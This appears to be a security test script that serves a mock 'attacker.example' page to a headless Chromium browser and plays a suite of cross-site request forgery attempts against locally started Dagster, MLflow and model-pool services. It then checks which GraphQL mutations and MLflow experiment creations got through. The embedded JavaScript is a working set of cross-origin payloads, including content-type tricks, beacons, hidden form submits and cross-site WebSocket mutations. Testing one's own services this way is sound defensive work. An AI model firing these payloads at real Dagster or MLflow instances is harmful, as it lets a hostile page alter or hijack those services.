"""A page of another site in the user's browser, against what `crypto-pool up` serves.

Chromium opens the page under a name of its own and plays each attack in turn. What came through
is read from Dagster and MLflow, and from whether the page got an answer to see.
"""

import json
import shutil
import tempfile
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

from drills.loopback import running_up

NAMES = ("chromium", "chromium-browser", "google-chrome")
ATTACKER = "attacker.example"
MUTATION = 'mutation {{ setConcurrencyLimit(concurrencyKey: "{key}", limit: 1) }}'
LIMITS = "{ instance { concurrencyLimits { concurrencyKey } } }"
# Lets a browser find the attacker's page on this machine.
BROWSER_ARGUMENTS = (f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1",)
EXPERIMENTS = "/api/2.0/mlflow/experiments/"
PLAY = """
async ({services, mutations, experiments, seconds}) => {
  const {dagster, mlflow, pool} = services, graphql = `${dagster}/graphql`;
  const asked = query => `${graphql}?query=${encodeURIComponent(query)}`;
  const json = query => JSON.stringify({query});
  const seen = [];
  let played = 0;
  const play = begin => {
    played += 1;
    return Promise.race([
      new Promise(begin), new Promise(done => setTimeout(done, seconds * 1000)),
    ]);
  };
  const load = (tag, src) => play(done => {
    const element = Object.assign(document.createElement(tag), {src, onerror: done});
    element.onload = () => done(seen.push(`${tag} ${src}`));
    document.body.append(element);
  });
  const send = (url, type, body, mode = "no-cors") => play(done => {
    const headers = type ? {"Content-Type": type} : {}, method = body ? "POST" : "GET";
    fetch(url, {method, mode, headers, body, credentials: "include"})
      .then(answer => answer.text()).then(text => text && seen.push(`read ${url}`))
      .catch(() => null).then(done);
  });
  const submit = (action, enctype) => play(done => {
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = `frame${played}`;
    Object.assign(form, {method: "POST", action, enctype, target: frame.name});
    document.body.append(frame, form);
    frame.onload = done;
    form.submit();
  });
  const socket = (url, query) => play(done => {
    const open = new WebSocket(url, "graphql-ws");
    open.onerror = done;
    open.onopen = () => {
      seen.push(`socket ${url}`);
      open.send(JSON.stringify({type: "connection_init", payload: {}}));
      open.send(JSON.stringify({id: "1", type: "start", payload: {query}}));
    };
    open.onmessage = message => JSON.parse(message.data).type === "data" && done();
  });
  await load("img", asked(mutations.img));
  await load("script", asked(mutations.script));
  await send(asked(mutations.get));
  await send(asked(mutations.text), "text/plain", "x");
  await send(graphql, "text/plain;a=application/json", json(mutations.disguised));
  await send(asked(mutations.form), "application/x-www-form-urlencoded", "a=b");
  await send(graphql, "application/json", json(mutations.json), "cors");
  await play(done => done(navigator.sendBeacon(asked(mutations.beacon), "x")));
  await submit(asked(mutations.submit), "text/plain");
  await socket(graphql.replace("http", "ws"), mutations.socket);
  for (const [type, name] of Object.entries(experiments)) {
    await send(`${mlflow}/api/2.0/mlflow/experiments/create`, type, JSON.stringify({name}));
  }
  await send(`${mlflow}/graphql`, "application/json", json("{ __typename }"), "cors");
  for (const url of [`${pool}/models`, `${mlflow}/version`, `${dagster}/server_info`]) {
    await send(url, null, null, "cors");
  }
  await load("img", `${dagster}/favicon.png`);
  await load("script", `${pool}/static/pool.js`);
  return {seen, played};
}
"""
ROUTES = ("img", "script", "get", "text", "disguised", "form", "json", "beacon", "submit", "socket")
REFUSED = (400, 403)  # an empty pool answers 503, to its user too
TYPES = ("text/plain", "application/x-www-form-urlencoded")


def run() -> dict[str, Any]:
    """Give what came through of a foreign page's attacks, and which of its links did not."""
    from playwright.sync_api import sync_playwright

    executable = next(filter(None, map(shutil.which, NAMES)), None)
    with (
        tempfile.TemporaryDirectory() as folder,
        running_up(Path(folder)) as (_, ports, _log),
        sync_playwright() as playwright,
    ):
        arguments = ["--no-sandbox", *BROWSER_ARGUMENTS]
        return attack(playwright.chromium.launch(executable_path=executable, args=arguments), ports)


def attack(browser: Any, ports: dict[str, int]) -> dict[str, Any]:
    """Play all attacks on the services of `ports`, and then what their user does himself."""
    services = {name: f"http://127.0.0.1:{port}" for name, port in ports.items()}
    with _foreign_site(services) as port:
        page = browser.new_page()
        page.goto(f"http://{ATTACKER}:{port}/")
        told = page.evaluate(
            PLAY,
            {
                "services": services,
                "mutations": {key: MUTATION.format(key=key) for key in ROUTES},
                "experiments": {kind: f"by {kind}" for kind in TYPES},
                "seconds": 2,
            },
        )
        links = _follow_links(page, services, f"http://{ATTACKER}:{port}/")
        links += _follow_links(page, services, f"http://localhost:{port}/")
    page.close()
    came_through = {
        "mutations": _keys(services["dagster"]) & set(ROUTES),
        "experiments": {kind for kind in TYPES if _has_experiment(services["mlflow"], kind)},
        "answers": set(told["seen"]),
    }
    return {
        "attacks": told["played"],
        **{f"{what}_through": sorted(found) for what, found in came_through.items()},
        "links_to_pages": len(links),
        "links_refused": [link for link, status in links if status in REFUSED],
        "own_page_sockets_refused": _own_sockets_refused(browser, services["dagster"]),
    }


@contextmanager
def _foreign_site(services: dict[str, str]) -> Iterator[int]:
    """Serve a page with a link to each service."""
    links = "".join(f'<a id="{name}" href="{url}/">{name}</a>' for name, url in services.items())

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<!doctype html><title>A page</title><body>{links}".encode())

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()


def _follow_links(page: Any, services: dict[str, str], site: str) -> list[tuple[str, int]]:
    statuses = []
    for name, url in services.items():
        page.goto(site)
        with page.expect_response(f"{url}/") as answered:
            page.click(f"#{name}")
        statuses.append((f"{site} to {name}", answered.value.status))
    return statuses


def _own_sockets_refused(browser: Any, dagster: str) -> int:
    """The web socket of Dagster's own page, by which it follows runs."""
    page = browser.new_page()
    page.goto(f"{dagster}/server_info")
    opened = page.evaluate(
        """url => new Promise(done => {
          const open = new WebSocket(url, "graphql-ws");
          open.onopen = () => done(true);
          open.onerror = () => done(false);
        })""",
        f"{dagster.replace('http', 'ws')}/graphql",
    )
    page.close()
    return int(not opened)


def _keys(dagster: str) -> set[str]:
    said = _ask(f"{dagster}/graphql", {"query": LIMITS})
    return {limit["concurrencyKey"] for limit in said["data"]["instance"]["concurrencyLimits"]}


def _has_experiment(mlflow: str, kind: str) -> bool:
    found = _ask(f"{mlflow}{EXPERIMENTS}search", {"max_results": 1000})
    return any(one["name"] == f"by {kind}" for one in found.get("experiments", ()))


def _ask(url: str, body: dict[str, Any]) -> dict[str, Any]:
    request = urllib.request.Request(
        url, json.dumps(body).encode(), {"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(request, timeout=30) as answer:
        said: dict[str, Any] = json.load(answer)
    return said
